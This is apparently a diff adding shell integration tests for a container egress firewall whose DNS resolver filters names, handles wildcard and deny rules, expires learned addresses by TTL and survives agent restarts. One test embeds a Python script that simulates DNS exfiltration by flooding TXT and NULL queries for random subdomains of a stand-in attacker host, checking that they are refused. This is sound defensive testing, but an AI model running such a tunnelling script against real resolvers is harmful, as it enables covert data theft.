@@ -63,4 +63,148 @@ expect_blocked "its sibling 203.0.113.11 refused" tcp "$C1" 203.0.113.11 443
 expect_blocked "c1's lookup opens nothing for c2" tcp "$C2" 203.0.113.10 443
 batch_end
 
+# --- any address, UDP and TCP, IPv4 and IPv6: the resolver answers
+for srv in 192.0.2.99 10.10.1.1 203.0.113.10; do
+	check "a query to $srv (UDP) is answered by the resolver" \
+		sh -c "ip netns exec $C1 dig +short +tries=1 +timeout=2 @$srv api.example.test | grep -qx 203.0.113.10"
+done
+check "a query over TCP is answered" \
+	sh -c "ip netns exec $C1 dig +tcp +short +tries=1 +timeout=2 @192.0.2.99 api.example.test | grep -qx 203.0.113.10"
+check "a query over IPv6 is answered" \
+	sh -c "ip netns exec $C1 dig -6 +short +tries=1 +timeout=2 @2001:db8::53 api.example.test | grep -qx 203.0.113.10"
+lookup "$C1" +short @"$DNS" api.example.test AAAA >"$WORK/aaaa"
+check "AAAA: 2001:db8::10 [$(tr '\n' ' ' <"$WORK/aaaa")]" grep -qx 2001:db8::10 "$WORK/aaaa"
+expect_ok "... which connects over IPv6" tcp "$C1" 2001:db8::10 443
+expect_blocked "DNS over TLS to the server (tcp 853) stays blocked" tcp "$C1" "$DNS" 853
+expect_blocked "... and another UDP port of it" udp "$C1" "$DNS" 5353
+
+# --- names the container may not resolve never leave the host
+before=$(wc -l <"$WORK/dnsmasq.log")
+lookup "$C1" @"$DNS" other.example.test A >"$WORK/other"
+check "a name no rule allows: NXDOMAIN" grep -q 'status: NXDOMAIN' "$WORK/other"
+lookup "$C1" @"$DNS" api.example.test TXT >"$WORK/txt"
+check "another type of an allowed name: NOERROR, no answer" \
+	sh -c "grep -q 'status: NOERROR' $WORK/txt && grep -q 'ANSWER: 0' $WORK/txt"
+# an exfiltration attempt: TXT and NULL queries of random subdomains
+ip netns exec "$C1" "$PYTHON" - "$DNS" >"$WORK/flood" <<'PY'
+import os, random, socket, struct, sys, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(0.5)
+sent = got = nx = 0
+for i in range(300):
+    label = os.urandom(12).hex()
+    name = "%s.secret-%d.attacker.test" % (label, i)
+    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
+    for part in name.split("."):
+        q += bytes([len(part)]) + part.encode()
+    q += b"\0" + struct.pack(">HH", 16 if i % 2 else 10, 1)
+    s.sendto(q, (sys.argv[1], 53))
+    sent += 1
+    try:
+        a = s.recv(4096)
+        got += 1
+        nx += (a[3] & 0xf) == 3
+    except socket.timeout:
+        pass
+print(sent, got, nx)
+PY
+read -r sent got nx <"$WORK/flood"
+check "300 TXT/NULL queries of random names: answered NXDOMAIN or dropped over the rate ($got answered, $nx NXDOMAIN)" \
+	test "$got" -eq "$nx" -a "$nx" -gt 0
+after=$(tail -n +"$((before + 1))" "$WORK/dnsmasq.log")
+check "the server saw none of them, nor other.example.test, nor the TXT query" \
+	sh -c "! printf '%s' \"\$1\" | grep -q 'attacker\|other.example\|query\[TXT\]'" sh "$after"
+api GET "$V/c1/firewall/drops?limit=500"
+check "refused queries are in the drop log (kind dns, the name)" \
+	sh -c "grep -q '\"kind\":\"dns\"' $WORK/api.out && grep -q 'other.example.test' $WORK/api.out"
+
+# --- wildcards and deny names
+expect_api "c1: allow tcp 443 to *.github.test" 201 POST $V/c1/firewall/egress \
+	'{"id": "gh", "destination": "*.github.test", "protocol": "tcp", "destination_port": "443", "action": "allow"}'
+expect_api "c1: deny b.github.test" 201 POST $V/c1/firewall/egress \
+	'{"id": "nob", "destination": "b.github.test", "action": "deny"}'
+lookup "$C1" +short @"$DNS" a.github.test >"$WORK/gh"
+check "a.github.test resolves under the wildcard" grep -qx 192.0.2.10 "$WORK/gh"
+lookup "$C1" @"$DNS" github.test >"$WORK/gh0"
+check "github.test itself does not (NXDOMAIN)" grep -q 'status: NXDOMAIN' "$WORK/gh0"
+lookup "$C1" @"$DNS" b.github.test >"$WORK/ghb"
+check "the denied b.github.test: NXDOMAIN" grep -q 'status: NXDOMAIN' "$WORK/ghb"
+check "... and the server was never asked for it" sh -c "! grep -q 'b.github.test' $WORK/dnsmasq.log"
+batch_begin
+expect_ok "a.github.test's 192.0.2.10:443 connects" tcp "$C1" 192.0.2.10 443
+expect_blocked "b.github.test's 192.0.2.11:443 does not" tcp "$C1" 192.0.2.11 443
+batch_end
+
+# --- the audit shows what is open, and for how long yet
+lookup "$C1" +short @"$DNS" api.example.test >/dev/null
+expect_api "the audit" 200 GET $V/c1/firewall/audit
+"$PYTHON" -c 'import json, sys
+for c in json.load(open(sys.argv[1]))["data"]["containers"]:
+    for r in c.get("rules", []):
+        for l in r.get("learned", []):
+            print(r["id"], l["address"], l["expires_in"])' "$WORK/api.out" >"$WORK/learned"
+check "it lists what the lookups opened, for how long yet [$(tr '\n' ';' <"$WORK/learned")]" \
+	sh -c "grep -q '^api 203.0.113.10 [1-6]$' $WORK/learned && grep -q '^gh 192.0.2.10 [1-6]$' $WORK/learned"
+
+# --- the record changes: the new address opens, the old one closes with its TTL
+records "203.0.113.20 api.example.test" "2001:db8::10 api.example.test" \
+	"203.0.113.11 other.example.test" "192.0.2.10 a.github.test" "192.0.2.11 b.github.test"
+poll 10 "dnsmasq serves the new record" sh -c "ip netns exec $REMOTE dig +short @$DNS api.example.test | grep -qx 203.0.113.20"
+lookup "$C1" +short @"$DNS" api.example.test >"$WORK/a2"
+check "c1 resolves the new address [$(tr '\n' ' ' <"$WORK/a2")]" grep -qx 203.0.113.20 "$WORK/a2"
+expect_ok "the new 203.0.113.20:443 connects" tcp "$C1" 203.0.113.20 443
+t0=$(date +%s)
+# the IPv4 set of c1's rule by name (its comment) NAME
+dset4() { nsx "$HOST" nft -j list sets inet | "$PYTHON" -c '
+import json, sys
+for o in json.load(sys.stdin)["nftables"]:
+    s = o.get("set")
+    if s and s["table"] == sys.argv[1] and s["name"].startswith("d4_") and s.get("comment") == sys.argv[2]:
+        print(s["name"])' "$TABLE" "$1" | head -1; }
+D4=$(dset4 api.example.test)
+check "c1's set of api.example.test ($D4)" test -n "$D4"
+old_closed() { ! nsx "$HOST" nft list set inet "$TABLE" "$D4" | grep -q '203.0.113.10 '; }
+poll 15 "the old address's element times out" old_closed
+check "... within its clamped lifetime (6 s at most; took $(($(date +%s) - t0)) s)" test $(($(date +%s) - t0)) -le 7
+expect_blocked "the old 203.0.113.10:443 refuses new connections" tcp "$C1" 203.0.113.10 443
+
+# --- an agent restart during a query loop loses no query
+ip netns exec "$C1" "$PYTHON" - "$DNS" >"$WORK/loop" <<'PY' &
+import socket, struct, sys, time
+def ask(i):
+    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"\3api\7example\4test\0" + struct.pack(">HH", 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for timeout in (1, 1):  # a client that asks again once after 1 s
+        s.settimeout(timeout)
+        s.sendto(q, (sys.argv[1], 53))
+        try:
+            a = s.recv(4096)
+            if struct.unpack(">H", a[:2])[0] == i and (a[3] & 0xf) == 0 and struct.unpack(">H", a[6:8])[0] > 0:
+                return True
+        except socket.timeout:
+            pass
+    return False
+ok = lost = 0
+end = time.time() + 6
+i = 0
+while time.time() < end:
+    i += 1
+    if ask(i & 0xffff):
+        ok += 1
+    else:
+        lost += 1
+    time.sleep(0.05)
+print(ok, lost)
+PY
+LOOP=$!
+bg_track $LOOP
+sleep 1.5 # the loop runs a while before the kill; the loop's own clock ends it
+agentd_stop KILL
+agentd_start --dns-upstream "$DNS" --dns-min-ttl 2 --dns-max-ttl 6
+wait "$LOOP"
+read -r ok lost <"$WORK/loop"
+check "SIGKILL and restart during a query loop: $ok answered, $lost lost" test "$lost" -eq 0 -a "$ok" -gt 20
+check "the restarted agent linked to the running resolver" \
+	grep -q 'the resolver a previous agentd started is there' "$WORK/agentd.log"
+
 finish
